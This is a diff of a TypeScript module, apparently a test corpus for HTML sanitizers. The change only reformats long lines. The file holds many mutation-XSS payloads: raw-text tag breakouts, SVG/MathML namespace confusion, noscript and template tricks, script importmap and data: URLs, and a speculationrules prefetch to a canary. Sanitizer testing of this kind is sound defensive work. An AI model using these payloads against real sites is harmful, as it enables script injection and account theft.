@@ -1,8 +1,11 @@
-// What a cleaner reads differently from a page: content of another kind, namespaces, and text that changes when it is written out again.
+// What a cleaner reads differently from a page: content of another kind, namespaces, and text that changes
+// when it is written out again.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
 /** Inside of these a parser reads text until their end, or does not, depending on who reads. */
-const RAW = words('style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup')
+const RAW = words(
+  'style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup',
+)
 const raw: Payload[] = RAW.flatMap(tag => [
   js => `<${tag}><p title="</${tag}><img src=x onerror=${js}>"></p></${tag}>`,
   js => `<${tag}><!--</${tag}><img src=x onerror=${js}>--></${tag}>`,
@@ -46,17 +49,21 @@ const MUTATING: readonly Payload[] = [
   js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
   js => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${js}>">`,
   js => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
-  js => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${js}>">`,
-  js => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${js}'>"></style></h1>`,
+  js =>
+    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${js}>">`,
+  js =>
+    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${js}'>"></style></h1>`,
   js => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
   js => `<svg><p><style><g title="</style><img src=x onerror=${js}>">`,
   js => `<svg><style><g/title="</style><img/src=x onerror=${js}>">`,
   js => `<svg></br><style><a id="</style><img src=x onerror=${js}>">`,
   js => `<math></p><style><!--</style><img src/onerror=${js}>`,
-  js => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
+  js =>
+    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
   js => `<math><annotation-xml encoding="text/html"><p><style><a title="</style><img src=x onerror=${js}>">`,
   js => `<svg><foreignObject><math><mi></foreignObject></svg><img src=x onerror=${js}>`,
-  js => `<svg><foreignObject><p><style><!--</style><img src=x onerror=${js}>--></style></p></foreignObject></svg>`,
+  js =>
+    `<svg><foreignObject><p><style><!--</style><img src=x onerror=${js}>--></style></p></foreignObject></svg>`,
   js => `<svg><foreignobject><img src=x onerror=${js}></foreignobject></svg>`,
   js => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
   js => `<svg><title><img src=x onerror=${js}></title></svg>`,
@@ -68,7 +75,8 @@ const MUTATING: readonly Payload[] = [
   js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
   js => `<noscript><style></noscript><img src=x onerror=${js}>`,
   js => `<template><noscript><p title="</noscript></template><img src=x onerror=${js}>">`,
-  js => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
+  js =>
+    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
   js => `<select><iframe></select><img src=x onerror=${js}>`,
   js => `<select><option><style></option></select><img src=x onerror=${js}></style>`,
   js => `<table><td><table></td><style><!--</style><img src=x onerror=${js}>--></table>`,
@@ -102,7 +110,8 @@ const MUTATING: readonly Payload[] = [
   js => `<script/x>${js}</script>`,
   js => `<scr<script>ipt>${js}</scr</script>ipt>`,
   js => `<script src="data:text/javascript,${js}"></script>`,
-  js => `<script type=importmap>{"imports":{"x":"data:text/javascript,${js}"}}</script><script type=module>import 'x'</script>`,
+  js =>
+    `<script type=importmap>{"imports":{"x":"data:text/javascript,${js}"}}</script><script type=module>import 'x'</script>`,
   () => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CANARY}/s"]}]}</script>`,
 ]
 
@@ -118,13 +127,16 @@ const DRAWN: readonly Payload[] = [
   js => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${js}</handler></svg>`,
   js =>
     `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#x"/></svg>`,
-  js => `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${js}"></iframe></foreignObject></svg>`,
-  js => `<svg xmlns:xlink="http://www.w3.org/1999/xlink" xml:base="javascript:${js}//"><a xlink:href="x"><text>x</text></a></svg>`,
+  js =>
+    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${js}"></iframe></foreignObject></svg>`,
+  js =>
+    `<svg xmlns:xlink="http://www.w3.org/1999/xlink" xml:base="javascript:${js}//"><a xlink:href="x"><text>x</text></a></svg>`,
   js => `<svg><style>{font-family:'<iframe/onload=${js}>'</style></svg>`,
   js => `<svg><animateTransform onbegin=${js} attributeName=transform dur=1s></svg>`,
   js => `<svg><animateMotion onbegin=${js} dur=1s></svg>`,
   js => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction></math>`,
-  js => `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${js}</script></annotation-xml></semantics></math>`,
+  js =>
+    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${js}</script></annotation-xml></semantics></math>`,
   js => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
   js => `<math onclick=${js}><mi tabindex=0 onfocus=${js}>x</mi></math>`,
 ]
@@ -137,6 +149,7 @@ export const parsing: readonly Payload[] = [
   ...crossed(
     words('svg math'),
     words('p b ul table h1 font span'),
-    (space, tag) => js => `<${space}><${tag}><style><a title="</style><img src=x onerror=${js}>"></style></${tag}></${space}>`,
+    (space, tag) => js =>
+      `<${space}><${tag}><style><a title="</style><img src=x onerror=${js}>"></style></${tag}></${space}>`,
   ),
 ]
